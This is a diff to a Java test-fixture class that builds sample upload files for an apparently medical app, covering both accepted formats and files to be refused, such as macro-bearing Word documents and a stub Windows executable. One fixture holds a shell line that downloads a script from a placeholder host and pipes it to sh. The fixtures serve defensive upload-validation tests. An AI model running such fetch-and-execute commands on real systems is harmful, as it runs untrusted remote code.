@@ -1,10 +1,28 @@
 package org.consilium;
 
+import java.awt.image.BufferedImage;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
+import java.util.LinkedHashMap;
 import java.util.List;
+import java.util.Map;
+import java.util.zip.CRC32;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+import javax.imageio.ImageIO;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.poi.hssf.usermodel.HSSFWorkbook;
+import org.apache.poi.poifs.filesystem.DirectoryEntry;
+import org.apache.poi.poifs.filesystem.POIFSFileSystem;
 
-/** Files a patient might upload, and some they must not. */
+/**
+ * Files a patient might upload, and some they must not, made in memory: documents and images of every accepted type,
+ * and programs, scripts, archives and PDFs that must be refused.
+ */
 public final class FileFixtures {
 
     private FileFixtures() {
@@ -46,5 +64,234 @@ public final class FileFixtures {
 
     public static byte[] shellScript() {
         return "#!/bin/sh\ncurl -s http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /** A DICOM Part 10 file: the 128-byte preamble, {@code DICM}, and a transfer syntax element. */
+    public static byte[] dicom() {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.writeBytes(new byte[128]);
+        out.writeBytes("DICM".getBytes(StandardCharsets.US_ASCII));
+        byte[] syntax = "1.2.840.10008.1.2.1\0".getBytes(StandardCharsets.US_ASCII);
+        out.writeBytes(new byte[] {0x02, 0x00, 0x10, 0x00, 'U', 'I', (byte) syntax.length, 0});
+        out.writeBytes(syntax);
+        return out.toByteArray();
+    }
+
+    public static byte[] png() {
+        return image("png");
+    }
+
+    public static byte[] jpeg() {
+        return image("jpeg");
+    }
+
+    private static byte[] image(String format) {
+        BufferedImage image = new BufferedImage(4, 4, BufferedImage.TYPE_INT_RGB);
+        image.setRGB(1, 1, 0xFF0000);
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try {
+            ImageIO.write(image, format, out);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    /** A ZIP archive of the given entries, in order, deflated. */
+    public static byte[] zip(Map<String, byte[]> entries) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(out)) {
+            write(zip, entries);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    private static void write(ZipOutputStream zip, Map<String, byte[]> entries) throws IOException {
+        for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
+            zip.putNextEntry(new ZipEntry(entry.getKey()));
+            zip.write(entry.getValue());
+            zip.closeEntry();
+        }
+    }
+
+    public static byte[] zip(String name, byte[] content) {
+        return zip(Map.of(name, content));
+    }
+
+    /** A Word document (OOXML): the three parts Word needs, with the given main part content type. */
+    public static byte[] docx(String text) {
+        return wordPackage("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+                text, Map.of());
+    }
+
+    /** A macro-enabled Word document: the macro main part type and a VBA project. */
+    public static byte[] docm() {
+        return wordPackage("application/vnd.ms-word.document.macroEnabled.main+xml", "Macro",
+                Map.of("word/vbaProject.bin", new byte[] {1, 2, 3}));
+    }
+
+    /** A document that says it is a plain .docx but carries a VBA project all the same. */
+    public static byte[] docxWithVbaProject() {
+        return wordPackage("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+                "Hidden macro", Map.of("word/vbaProject.bin", new byte[] {1, 2, 3}));
+    }
+
+    private static byte[] wordPackage(String mainType, String text, Map<String, byte[]> extra) {
+        Map<String, byte[]> parts = new LinkedHashMap<>();
+        parts.put("word/document.xml", utf8("""
+                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+                <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
+                <w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>""".formatted(text)));
+        parts.putAll(extra);
+        return officePackage("word/document.xml", Map.of("/word/document.xml", mainType), parts);
+    }
+
+    /** An Excel workbook (OOXML) with one sheet holding one number. */
+    public static byte[] xlsx() {
+        Map<String, byte[]> parts = new LinkedHashMap<>();
+        parts.put("xl/workbook.xml", utf8("""
+                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+                <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+                 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
+                <sheets><sheet name="Labs" sheetId="1" r:id="rId1"/></sheets></workbook>"""));
+        parts.put("xl/_rels/workbook.xml.rels", relationships("worksheets/sheet1.xml",
+                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"));
+        parts.put("xl/worksheets/sheet1.xml", utf8("""
+                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+                <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
+                <sheetData><row r="1"><c r="A1"><v>5.4</v></c></row></sheetData></worksheet>"""));
+        Map<String, String> types = new LinkedHashMap<>();
+        types.put("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml");
+        types.put("/xl/worksheets/sheet1.xml",
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml");
+        return officePackage("xl/workbook.xml", types, parts);
+    }
+
+    /** An OOXML package: content types first, then the package relationship to the main part, then the parts. */
+    private static byte[] officePackage(String mainPart, Map<String, String> partTypes, Map<String, byte[]> parts) {
+        StringBuilder overrides = new StringBuilder();
+        partTypes.forEach((part, type) -> overrides.append("<Override PartName=\"").append(part)
+                .append("\" ContentType=\"").append(type).append("\"/>\n"));
+        Map<String, byte[]> all = new LinkedHashMap<>();
+        all.put("[Content_Types].xml", utf8("""
+                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+                <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
+                <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
+                <Default Extension="xml" ContentType="application/xml"/>
+                %s</Types>""".formatted(overrides)));
+        all.put("_rels/.rels", relationships(mainPart,
+                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"));
+        all.putAll(parts);
+        return zip(all);
+    }
+
+    private static byte[] relationships(String target, String type) {
+        return utf8("""
+                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+                <Relationship Id="rId1" Target="%s" Type="%s"/>
+                </Relationships>""".formatted(target, type));
+    }
+
+    /** An OpenDocument file: the stored {@code mimetype} entry first, as the format requires. */
+    public static byte[] openDocument(String mimeType, Map<String, byte[]> more) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(out)) {
+            byte[] type = utf8(mimeType);
+            ZipEntry first = new ZipEntry("mimetype");
+            first.setMethod(ZipEntry.STORED);
+            first.setSize(type.length);
+            CRC32 crc = new CRC32();
+            crc.update(type);
+            first.setCrc(crc.getValue());
+            zip.putNextEntry(first);
+            zip.write(type);
+            zip.closeEntry();
+            Map<String, byte[]> parts = new LinkedHashMap<>();
+            parts.put("META-INF/manifest.xml", utf8("""
+                    <?xml version="1.0" encoding="UTF-8"?>
+                    <manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">
+                    <manifest:file-entry manifest:full-path="/" manifest:media-type="%s"/>
+                    </manifest:manifest>""".formatted(mimeType)));
+            parts.put("content.xml", utf8("""
+                    <?xml version="1.0" encoding="UTF-8"?>
+                    <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>"""));
+            parts.putAll(more);
+            write(zip, parts);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    /** A legacy Word document (OLE2): the streams Word's format is recognised by, plus any extra ones. */
+    public static byte[] doc(Map<String, byte[]> extraStreams) {
+        try (POIFSFileSystem fs = new POIFSFileSystem()) {
+            fs.createDocument(new java.io.ByteArrayInputStream(new byte[4096]), "WordDocument");
+            fs.createDocument(new java.io.ByteArrayInputStream(new byte[1024]), "1Table");
+            for (Map.Entry<String, byte[]> stream : extraStreams.entrySet()) {
+                DirectoryEntry directory = fs.getRoot();
+                String[] path = stream.getKey().split("/");
+                for (int i = 0; i < path.length - 1; i++) {
+                    directory = directory.hasEntry(path[i]) ? (DirectoryEntry) directory.getEntry(path[i])
+                            : directory.createDirectory(path[i]);
+                }
+                directory.createDocument(path[path.length - 1], new java.io.ByteArrayInputStream(stream.getValue()));
+            }
+            ByteArrayOutputStream out = new ByteArrayOutputStream();
+            fs.writeFilesystem(out);
+            return out.toByteArray();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** A legacy Excel workbook (BIFF8 in OLE2), written by POI, with one sheet of lab values. */
+    public static byte[] xls() {
+        try (HSSFWorkbook workbook = new HSSFWorkbook()) {
+            workbook.createSheet("Labs").createRow(0).createCell(0).setCellValue(5.4);
+            ByteArrayOutputStream out = new ByteArrayOutputStream();
+            workbook.write(out);
+            return out.toByteArray();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** A PDF made by PDFBox, after the given change to the document: the way to build hostile PDFs. */
+    public static byte[] pdf(PdfChange change) {
+        try (PDDocument document = new PDDocument()) {
+            PDPage page = new PDPage();
+            document.addPage(page);
+            change.apply(document, page);
+            ByteArrayOutputStream out = new ByteArrayOutputStream();
+            document.save(out);
+            return out.toByteArray();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** Something done to a fresh one-page document before it is saved. */
+    @FunctionalInterface
+    public interface PdfChange {
+        void apply(PDDocument document, PDPage page) throws IOException;
+    }
+
+    /** The start of a Windows PE executable: the DOS header pointing at a PE header. */
+    public static byte[] windowsExecutable() {
+        byte[] exe = new byte[256];
+        exe[0] = 'M';
+        exe[1] = 'Z';
+        exe[0x3c] = (byte) 0x80;
+        exe[0x80] = 'P';
+        exe[0x81] = 'E';
+        return exe;
+    }
+
+    public static byte[] utf8(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
     }
 }
